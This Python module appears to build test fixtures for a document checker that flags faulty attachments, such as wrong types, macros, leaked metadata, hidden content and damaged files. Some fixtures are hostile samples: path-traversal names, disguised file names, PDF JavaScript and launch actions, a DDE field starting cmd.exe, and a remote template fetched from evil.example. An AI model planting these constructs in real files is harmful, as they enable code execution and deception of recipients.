"""Faults of attachments and images."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING, Final

import openpyxl
from docx import Document
from docx.oxml import OxmlElement, parse_xml
from personal import _docx, _pdf, _zipped
from planting import fault

if TYPE_CHECKING:
    import random
    from collections.abc import Callable

    from papers import Paper

CSV: Final = "项目,金额\n维修,12.5\n".encode()


def attached(kind: str, rules: str, variant: str, name: str, data: bytes | None) -> None:
    """Register a fault of one listed file; ``None`` leaves it out."""

    @fault(kind, rules, variant)
    def _(paper: Paper, _rng: random.Random) -> str | None:
        paper.files = {} if data is None else {name: data}
        paper.body = paper.body.replace("附件：", "")
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        paper.keys["attachments"] = f'[{{title: 附表, file: "{quoted}"}}]'
        return "attachments:"


def _ole(*words: str) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1500) + b"".join(word.encode("utf-16-le") + bytes(64) for word in words) + bytes(3000)
    )


def _office(change: Callable[[dict[str, bytes]], None], data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return stream.getvalue()


def _with(name: str, part: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[name] = part

    return change


def _authored(**values: str) -> bytes:
    document = Document()
    document.core_properties.author = ""
    for key, value in values.items():
        setattr(document.core_properties, key, value)
    document.add_paragraph("任务分工表")
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def _changed(markup: str) -> bytes:
    document = Document()
    document.core_properties.author = ""
    paragraph = document.add_paragraph("任务分工表")
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    paragraph._p.append(parse_xml(markup.replace("W", space)))  # noqa: SLF001  # python-docx has no such function
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def _hidden_run() -> bytes:
    document = Document()
    document.core_properties.author = ""
    run = document.add_paragraph("任务").add_run("不公开的意见")
    run._r.get_or_add_rPr().append(OxmlElement("w:vanish"))  # noqa: SLF001  # as above
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def _book(**values: str) -> bytes:
    book = openpyxl.Workbook()
    book.properties.creator = values.get("creator", "")
    sheet = book.worksheets[0]
    sheet.append(["任务", "单位"])
    if values.get("state"):
        other = book.create_sheet("底稿")
        other.append(["测算"])
        other.sheet_state = values["state"]
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _jpeg(*, gps: bool) -> bytes:
    tag = 0x8825 if gps else 0x0112
    tiff = b"II*\0" + struct.pack("<IH", 8, 1) + struct.pack("<HHII", tag, 4, 1, 26) + bytes(8)
    exif = b"Exif\0\0" + tiff
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + b"\xff\xda" + bytes(40) + b"\xff\xd9"


def _png(chunk: bytes = b"", data: bytes = b"") -> bytes:
    def part(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    extra = part(chunk, data) if chunk else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + part(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
        + extra
        + part(b"IDAT", zlib.compress(bytes(5)))
        + part(b"IEND", b"")
    )


_PDF: Final = _pdf("plain words")
_SCAN: Final = _PDF.replace(b"(List of persons and their numbers) Tj", b"                                     ").replace(
    b"(plain words) Tj", b"                "
)
_TIFF_GPS: Final = b"II*\0" + struct.pack("<IH", 8, 1) + struct.pack("<HHII", 0x8825, 4, 1, 26) + bytes(8)

attached("missing file", "attachment-missing", "not there", "none.xlsx", None)
attached("empty file", "file-empty", "0 bytes", "a.csv", b"")
for _name, _data in (
    ("a.pdf", CSV + b"1,2\n"), ("a.docx", _PDF), ("a.xlsx", b"<html><table></table></html>"), ("a.jpg", _png()), ("a.doc", _docx("x")), ("a.zip", _ole("x")), ("a.csv", _PDF), ("a.pdf", b"MZ" + bytes(200)), ("a.xls", b"<table><tr><td>1</td></tr></table>"), ("a.txt", b"\x7fELF" + bytes(100)),
    ("a.png", _jpeg(gps=False)), ("a.docx", _zipped(a_txt=b"x")),
):  # fmt: skip
    attached("true type", "attachment-of-another-type", f"{_name}: {_data[:8]!r}", _name, _data)
for _name in ("a.exe", "a.bat", "a.js", "a.html", "a.svg", "a.lnk", "a.docm", "a.xlsm", "a.hta", "a.ps1", "a", "a.pdf.exe", "a.PDF.SCR"):
    attached("type not allowed", "file-type-not-allowed attachment-with-macro file-name-unsafe", _name, _name, b"x" * 20)
for _name in (
    "表?.csv",
    "CON.csv",
    "a:b.csv",
    "nul.csv",
    "a<b>.csv",
    'a"b.csv',
    "a|b.csv",
    "x" * 121 + ".csv",
    "a*.csv",
    "com1.csv",
    "a .csv ",
    "a\\b.csv",
    ".csv",
    "a\u202ecsv.csv",
    "a\u200b.csv",
    "aux.2024.csv",
):
    attached(
        "file name",
        "file-name-unsafe file-type-not-allowed direction-control invisible-character attachment-missing file-out-of-reach",
        _name[:20],
        _name,
        CSV,
    )
for _name in ("../a.csv", "/etc/passwd", "C:\\a.csv", "../../x.pdf", "sub/../../../a.csv", "https://x.example/a.csv", "file:///a.csv"):
    attached("out of reach", "file-out-of-reach attachment-missing file-type-not-allowed file-name-unsafe", _name, _name, None)
for _variant, _name, _data in (
    ("docx", "a.docx", _office(_with("word/vbaProject.bin", b"x"), _docx("x"))), ("xlsx", "a.xlsx", _office(_with("xl/vbaProject.bin", b"x"), _book())), ("xls", "a.xls", _ole("_VBA_PROJECT_CUR", "Module1")), ("doc", "a.doc", _ole("Macros", "_VBA_PROJECT")),
    ("capitals", "a.docx", _office(_with("word/VBAPROJECT.BIN", b"x"), _docx("x"))), ("in a zip", "a.zip", _zipped(a_docx=_office(_with("word/vbaProject.bin", b"x"), _docx("x")))), ("Excel 4", "a.xlsx", _office(_with("xl/macrosheets/sheet1.xml", b"<x/>"), _book())),
):  # fmt: skip
    attached("macro", "attachment-with-macro", _variant, _name, _data)
for _variant, _name, _data in (
    ("program in a zip", "a.zip", _zipped(setup_exe=b"MZ")), ("script in a zip", "a.zip", _zipped(run_vbs=b"x")), ("embedded object", "a.docx", _office(_with("word/embeddings/oleObject1.bin", b"x"), _docx("x"))), ("PDF with JavaScript", "a.pdf", _PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>")),
    ("PDF that launches", "a.pdf", _PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/Launch/F(x)>>")), ("PDF with an embedded file", "a.pdf", _PDF.replace(b"/Type/Catalog", b"/Type/Catalog/Names<</EmbeddedFiles 9 0 R>>/AF[<</EF<</F 9 0 R>>/Type/EmbeddedFile >>]")),
    ("PDF, name in hexadecimal", "a.pdf", _PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/J#61vaScript/J#53(x)>>")), ("program in a zip in a zip", "a.zip", _zipped(inner_zip=_zipped(setup_exe=b"MZ"))), ("shortcut in a zip", "a.zip", _zipped(open_lnk=b"x")),
    ("remote template", "a.docx", _office(_with("word/_rels/settings.xml.rels", b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'), _docx("x"))),
    ("DDE", "a.docx", _changed('<w:r W><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>')),
):  # fmt: skip
    attached("executable content", "attachment-with-program attachment-with-macro", _variant, _name, _data)
for _variant, _name, _data in (
    ("author of a docx", "a.docx", _authored(author="汪某某")), ("last modified by", "a.docx", _authored(last_modified_by="Zhang San")), ("author of an xlsx", "a.xlsx", _book(creator="章某")), ("author of a PDF", "a.pdf", _PDF.replace(b"/Size 6", b"/Size 6/Info<</Author(Zhang San)>>")),
    ("position in a JPEG", "a.jpg", _jpeg(gps=True)), ("author of a PDF, UTF-16", "a.pdf", _PDF.replace(b"/Size 6", b"/Size 6/Info<</Author<FEFF6C6A67D0>>>")), ("position in a PNG", "a.png", _png(b"eXIf", _TIFF_GPS)), ("author of a PNG", "a.png", _png(b"tEXt", b"Author\0Zhang San")), ("position in a TIFF", "a.tiff", _TIFF_GPS),
    ("author in XMP", "a.pdf", _PDF.replace(b"xref\n", b"%<x:xmpmeta><dc:creator><rdf:Seq><rdf:li>Zhang San</rdf:li></rdf:Seq></dc:creator></x:xmpmeta>\nxref\n", 1)), ("author of an odt", "a.odt", _zipped(mimetype=b"application/vnd.oasis.opendocument.text", content_xml=b"<x/>", meta_xml="<office:meta><dc:creator>汪某</dc:creator></office:meta>".encode())),
    ("manager of a docx", "a.docx", _office(_with("docProps/app.xml", "<Properties><Manager>汪某某</Manager></Properties>".encode()), _docx("x"))),
):  # fmt: skip
    attached("metadata of a file", "attachment-metadata", _variant, _name, _data)
for _variant, _name, _data in (
    ("hidden sheet", "a.xlsx", _book(state="hidden")), ("very hidden sheet", "a.xlsx", _book(state="veryHidden")), ("insertion", "a.docx", _changed('<w:ins W w:id="1" w:author=""><w:r><w:t>意见</w:t></w:r></w:ins>')), ("deletion", "a.docx", _changed('<w:del W w:id="1" w:author=""><w:r><w:delText>意见</w:delText></w:r></w:del>')),
    ("hidden run", "a.docx", _hidden_run()), ("comment", "a.docx", _office(_with("word/comments.xml", '<w:comments><w:comment w:id="0"><w:p><w:r><w:t>请再核实一下这一段的数字</w:t></w:r></w:p></w:comment></w:comments>'.encode()), _docx("x"))),
    ("hidden columns", "a.xlsx", _office(_with("xl/worksheets/sheet1.xml", '<worksheet><cols><col min="2" max="2" hidden="1"/></cols><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>任务</t></is></c><c r="B1" t="inlineStr"><is><t>底数</t></is></c></row></sheetData></worksheet>'.encode()), _book())),
    ("hidden rows", "a.xlsx", _office(_with("xl/worksheets/sheet1.xml", '<worksheet><sheetData><row r="1" hidden="1"><c r="A1" t="inlineStr"><is><t>任务</t></is></c></row></sheetData></worksheet>'.encode()), _book())),
):  # fmt: skip
    attached("hidden content of a file", "attachment-with-hidden-content", _variant, _name, _data)
attached("scanned PDF", "attachment-without-text", "no text", "a.pdf", _SCAN)
for _variant, _name, _data in (
    ("damaged zip", "a.zip", b"PK\x03\x04" + bytes(60)),
    ("truncated docx", "a.docx", _docx("x" * 400)[:900]),
    ("truncated PDF", "a.pdf", b"%PDF-1.4\n1 0 obj<<"),
    ("locked xls", "a.xls", _ole("EncryptedPackage")),
):
    attached("damaged or locked file", "attachment-unreadable attachment-of-another-type attachment-without-text", _variant, _name, _data)


@fault("repeated attachment", "attachment-repeated", "twice")
def _(paper: Paper, _rng: random.Random) -> None:
    paper.files = {"a.csv": CSV}
    paper.body = paper.body.replace("附件：", "")
    paper.keys["attachments"] = "[{title: 表一, file: a.csv}, {title: 表二, file: a.csv}]"
